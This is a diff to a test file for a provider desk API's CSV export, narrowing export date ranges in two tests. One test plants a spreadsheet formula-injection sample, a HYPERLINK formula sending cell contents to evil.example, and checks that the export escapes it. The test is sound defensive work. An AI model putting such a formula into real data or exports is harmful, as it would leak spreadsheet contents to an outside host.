@@ -217,7 +217,7 @@ describe('provider desk API', () => {
     // A request without a collection says so.
     const { kpnContract: quiet } = await estateWithRequests();
     expect((await kpnDesk.get('/api/v1/provider-desk/requests/{id}', { path: { id: quiet.id } }).expect(200)).body.collection).toBeNull();
-    const csv = await kpnDesk.get('/api/v1/provider-desk/requests/export', { query: { from: '2026-01-01', to: t.clock.today() } }).expect(200);
+    const csv = await kpnDesk.get('/api/v1/provider-desk/requests/export', { query: { from: '2026-11-01', to: t.clock.today() } }).expect(200);
     const line = csv.text.split('\r\n').find((l) => l.includes(kpnContract.id));
     expect(line).toMatch(/Incasso Noord, kenmerk IN-889, €\s75,50/);
   });
@@ -230,7 +230,7 @@ describe('provider desk API', () => {
     await kpnDesk.post('/api/v1/provider-desk/requests/{id}/complete', { path: { id: contract.id }, body: { effectiveDate: '2026-11-30', reference: 'KPN-F1' } }).expect(200);
     const agency = '=HYPERLINK("https://evil.example/?x="&A2;"Intrum")';
     await anna.post(`${API}/contracts/${contract.id}/collection-notice`, { agency, reference: 'INT-1', amount: 20 }).expect(200);
-    const csv = await kpnDesk.get('/api/v1/provider-desk/requests/export', { query: { from: '2026-01-01', to: t.clock.today() } }).expect(200);
+    const csv = await kpnDesk.get('/api/v1/provider-desk/requests/export', { query: { from: '2026-11-01', to: t.clock.today() } }).expect(200);
     const line = csv.text.split('\r\n').find((l) => l.includes(contract.id)) ?? '';
     // Each cell that would start with = or + starts with ' instead: Excel and LibreOffice show it as text.
     expect(line).toContain(`;'+31 mobiel;`);
